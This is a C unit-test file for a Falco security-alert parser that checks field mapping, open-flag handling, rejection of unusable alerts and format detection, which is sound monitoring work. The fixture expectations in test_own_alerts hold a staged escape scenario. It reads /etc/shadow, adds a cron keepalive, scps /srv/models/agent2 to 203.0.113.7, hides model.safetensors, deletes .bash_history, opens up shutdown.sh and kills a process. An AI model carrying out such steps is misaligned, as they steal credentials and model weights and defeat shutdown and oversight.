/* t_falco.c — Falco JSON alerts: the operations their output fields allow,
 * system calls alibi keeps no operation for, alerts that name none (the
 * public fixture's rule shows only proc.cmdline), and detection.
 *
 * The fixture's counts were taken with grep, not with this parser: 8 lines
 * (grep -c '"rule":'), none with an evt.type (grep -c '"evt.type"'). */
#include "unit.h"

#include "alibi/ingest.h"
#include "alibi/timeparse.h"

#define OP_SINK_PARSE falco_parse
#include "op_sink.h"

/* The sink keeps the first 63 bytes of a problem. */
#define CHECK_PREFIX(got, want) CHECK(strncmp((got), (want), strlen(want)) == 0)

static int
parse_str(struct sink *s, const char *text)
{
	FILE *fp = fmemopen((void *)text, strlen(text), "r");
	if (!fp)
		return -1;
	int rc = parse_fp(s, fp, "inline.json");
	fclose(fp);
	return rc;
}

static void
test_own_alerts(void)
{
	char path[512];
	struct sink s;
	unit_data("falco/alerts.jsonl", path, sizeof path);
	CHECK_INT(parse_file(&s, path), 0);
	CHECK_INT(s.records, 10);
	CHECK_INT((int)s.n, 9);
	CHECK_INT(s.bad, 2);
	CHECK_INT(s.clock, ALIBI_CLOCK_EPOCH);
	CHECK_INT(s.bad_line[0], 11);
	CHECK_PREFIX(s.bad_what[0], "alert 'Terminal shell in container' names no system call (its");
	CHECK_INT(s.bad_line[1], 12);
	CHECK_PREFIX(s.bad_what[1], "alert 'Attach/Exec Pod' comes from the 'k8s_audit' event source");
	if (s.n != 9) {
		sink_free(&s);
		return;
	}
	const struct got *g = s.ops;
	CHECK_INT(g[0].kind, ALIBI_OP_open_read);
	CHECK_STR(g[0].path, "/etc/shadow");
	CHECK_STR(g[0].syscall, "openat");
	CHECK_INT(g[0].pid, 4811);
	CHECK_INT(g[0].ppid, 4790);
	CHECK_INT(g[0].ok, 1);
	CHECK_INT(g[0].ts, time_parse_iso8601("2026-03-04T09:12:01.1012Z"));
	CHECK_INT(g[0].line, 1);
	CHECK(g[0].raw && strstr(g[0].raw, "\"rule\":\"Read sensitive file untrusted\""));
	CHECK_INT(g[1].kind, ALIBI_OP_create);
	CHECK_STR(g[1].path, "/etc/cron.d/keepalive");
	CHECK_INT(g[2].kind, ALIBI_OP_exec);
	CHECK_STR(g[2].path, "/usr/bin/scp");
	CHECK_STR(g[2].detail, "scp -r /srv/models/agent2 backup@203.0.113.7:/srv");
	CHECK_INT(g[3].kind, ALIBI_OP_connect);
	CHECK_STR(g[3].host, "203.0.113.7");
	CHECK_INT(g[3].port, 22);
	CHECK_INT(g[4].kind, ALIBI_OP_rename);
	CHECK_STR(g[4].path, "/srv/models/agent2/model.safetensors");
	CHECK_STR(g[4].path2, "/srv/.cache/m.bin");
	CHECK_INT(g[5].kind, ALIBI_OP_unlink);
	CHECK_STR(g[5].path, "/home/agent/.bash_history");
	CHECK_INT(g[6].kind, ALIBI_OP_chmod);
	CHECK_STR(g[6].path, "/srv/shutdown.sh");
	CHECK_STR(g[6].detail, "0777");
	CHECK_INT(g[7].kind, ALIBI_OP_kill);
	CHECK_STR(g[7].detail, "pid 3120 SIGKILL");
	CHECK_INT(g[8].kind, ALIBI_OP_open_read);
	CHECK_INT(g[8].ok, 0);
	CHECK_STR(g[8].err_name, "ENOENT");
	CHECK_INT(g[8].err_no, 2);
	sink_free(&s);
}

static void
test_fields_in_other_spellings(void)
{
	struct sink s;
	int rc = parse_str(&s,
		/* older Falco: no fs.path.*, the tuple only, evt.time in ns */
		"{\"output\":\"x\",\"priority\":\"Notice\",\"rule\":\"r1\",\"output_fields\":"
		"{\"evt.type\":\"connect\",\"fd.name\":\"10.0.0.2:40000->198.51.100.4:443\","
		"\"evt.time\":1772615521000000000,\"proc.pid\":\"77\"}}\n"
		"{\"output\":\"x\",\"priority\":\"Notice\",\"rule\":\"r2\",\"time\":\"2026-03-04T09:00:00Z\","
		"\"output_fields\":{\"evt.type\":\"rename\",\"evt.arg.oldpath\":\"/a\",\"evt.arg.newpath\":\"/b\"}}\n"
		"{\"output\":\"x\",\"priority\":\"Notice\",\"rule\":\"r3\",\"time\":\"2026-03-04T09:00:00Z\","
		"\"output_fields\":{\"evt.type\":\"unlinkat\",\"evt.arg.name\":\"/srv/old\","
		"\"evt.arg.flags\":\"AT_REMOVEDIR\"}}\n"
		"{\"output\":\"x\",\"priority\":\"Notice\",\"rule\":\"r4\",\"time\":\"2026-03-04T09:00:00Z\","
		"\"output_fields\":{\"evt.type\":\"symlinkat\",\"evt.arg.target\":\"/srv/m\","
		"\"evt.arg.linkpath\":\"/tmp/l\"}}\n"
		"{\"output\":\"x\",\"priority\":\"Notice\",\"rule\":\"r5\",\"time\":\"2026-03-04T09:00:00Z\","
		"\"output_fields\":{\"evt.type\":\"write\",\"fd.name\":\"/var/log/a\",\"evt.rawres\":512}}\n"
		"{\"output\":\"x\",\"priority\":\"Notice\",\"rule\":\"r6\",\"time\":\"2026-03-04T09:00:00Z\","
		"\"output_fields\":{\"evt.type\":\"connect\",\"fd.name\":\"/run/docker.sock\",\"fd.type\":\"unix\"}}\n");
	CHECK_INT(rc, 0);
	CHECK_INT(s.bad, 0);
	CHECK_INT((int)s.n, 6);
	if (s.n == 6) {
		CHECK_STR(s.ops[0].host, "198.51.100.4");
		CHECK_INT(s.ops[0].port, 443);
		CHECK_INT(s.ops[0].pid, 77);
		CHECK_INT(s.ops[0].ts, 1772615521000000LL);
		CHECK_STR(s.ops[1].path, "/a");
		CHECK_STR(s.ops[1].path2, "/b");
		CHECK_INT(s.ops[2].kind, ALIBI_OP_rmdir);
		CHECK_INT(s.ops[3].kind, ALIBI_OP_link);
		CHECK_STR(s.ops[3].path, "/srv/m");
		CHECK_STR(s.ops[3].path2, "/tmp/l");
		CHECK_STR(s.ops[3].detail, "symlink");
		CHECK_INT(s.ops[4].kind, ALIBI_OP_write);
		CHECK_INT(s.ops[4].bytes, 512);
		CHECK_STR(s.ops[5].path, "/run/docker.sock");
		CHECK(s.ops[5].host == NULL);
	}
	sink_free(&s);
}

/* An open's flags: O_TRUNC makes the file anew, O_CREAT alone makes it,
 * an append (">> f", O_CREAT|O_APPEND) writes to it. */
#define OPEN_ALERT(path, flags) \
	"{\"output\":\"x\",\"priority\":\"Notice\",\"rule\":\"r\",\"time\":\"2026-03-04T09:00:00Z\"," \
	"\"output_fields\":{\"evt.type\":\"openat\",\"fd.name\":\"" path "\"," \
	"\"evt.arg.flags\":\"" flags "\"}}\n"

static void
test_open_kinds(void)
{
	struct sink s;
	int rc = parse_str(&s, OPEN_ALERT("/etc/a", "O_TRUNC|O_CREAT|O_WRONLY")
	                       OPEN_ALERT("/etc/b", "O_CREAT|O_WRONLY")
	                       OPEN_ALERT("/etc/c", "O_APPEND|O_CREAT|O_WRONLY")
	                       OPEN_ALERT("/etc/d", "O_APPEND|O_CREAT|O_TRUNC|O_WRONLY"));
	CHECK_INT(rc, 0);
	CHECK_INT(s.bad, 0);
	CHECK_INT((int)s.n, 4);
	if (s.n == 4) {
		CHECK_INT(s.ops[0].kind, ALIBI_OP_create);
		CHECK_INT(s.ops[1].kind, ALIBI_OP_create);
		CHECK_INT(s.ops[2].kind, ALIBI_OP_open_write);
		CHECK_INT(s.ops[3].kind, ALIBI_OP_create);
	}
	sink_free(&s);
}

static void
test_unusable_alerts(void)
{
	struct sink s;
	int rc = parse_str(&s,
		"{\"output\":\"x\",\"priority\":\"Notice\",\"rule\":\"r\",\"time\":\"2026-03-04T09:00:00Z\","
		"\"output_fields\":{\"evt.type\":\"unlink\",\"proc.cmdline\":\"rm x\"}}\n"
		"{\"hostname\":\"h\",\"time\":\"2026-03-04T09:00:00Z\"}\n"
		"{\"output\":\"x\",\"priority\":\"Notice\",\"rule\":\"r\",\"time\":\n"
		"{\"output\":\"x\",\"priority\":\"Notice\",\"rule\":\"r\",\"time\":\"2026-03-04T09:00:00Z\","
		"\"output_fields\":{\"evt.type\":\"mkdir\",\"fs.path.name\":\"/srv/new\"}}\n");
	CHECK_INT(rc, 0);
	CHECK_INT((int)s.n, 1);
	CHECK_INT(s.records, 1);
	CHECK_INT(s.bad, 3);
	CHECK_PREFIX(s.bad_what[0], "alert 'r' (unlink) names no file (fd.name, fs.path.name or evt.");
	CHECK_STR(s.bad_what[1], "not a Falco alert (no \"output\" and \"rule\")");
	CHECK_INT(s.bad_line[2], 3);
	sink_free(&s);
}

static void
test_fixture(void)
{
	char path[512];
	if (!unit_fixture("falco/single_rule_with_cat_write.json", path, sizeof path)) {
		SKIP("no public fixtures");
		return;
	}
	static char head[INGEST_HEAD_BYTES + 1];
	FILE *fp = fopen(path, "rb");
	size_t n = fp ? fread(head, 1, INGEST_HEAD_BYTES, fp) : 0;
	head[n] = '\0';
	if (fp)
		fclose(fp);
	CHECK_STR(ingest_detect(head, n) ? ingest_detect(head, n)->name : "(none)", "falco");
	struct sink s;
	CHECK_INT(parse_file(&s, path), 0);
	/* its rule's output shows proc.cmdline only: no alert says which
	 * system call it saw, so each is reported and none imported */
	CHECK_INT(s.records, 0);
	CHECK_INT((int)s.n, 0);
	CHECK_INT(s.bad, 8);
	for (int i = 0; i < 8 && i < s.bad; i++) {
		CHECK_INT(s.bad_line[i], i + 1);
		CHECK_PREFIX(s.bad_what[i], "alert 'open_from_cat' names no system call (its output has no %");
	}
	CHECK_INT(s.clock, ALIBI_CLOCK_NONE);
	sink_free(&s);
}

static void
test_detect(void)
{
	static const char alert[] = "{\"hostname\":\"h\",\"output\":\"x\",\"priority\":\"Warning\","
	                            "\"rule\":\"r\",\"source\":\"syscall\",\"time\":\"2026-03-04T09:00:00Z\"}\n";
	static const char chat[] = "{\"role\":\"user\",\"content\":\"hi\"}\n";
	static const char ours[] = "{\"alibi\":1,\"ts\":1,\"op\":\"unlink\",\"path\":\"/a\"}\n";
	CHECK_INT(falco_detect(alert, strlen(alert)), 90);
	CHECK_STR(ingest_detect(alert, strlen(alert))->name, "falco");
	CHECK_INT(falco_detect(alert, 60), 50);
	CHECK_INT(falco_detect(chat, strlen(chat)), 0);
	CHECK_INT(falco_detect(ours, strlen(ours)), 0);
}

int
main(void)
{
	RUN(test_own_alerts);
	RUN(test_fields_in_other_spellings);
	RUN(test_open_kinds);
	RUN(test_unusable_alerts);
	RUN(test_fixture);
	RUN(test_detect);
	return unit_done();
}
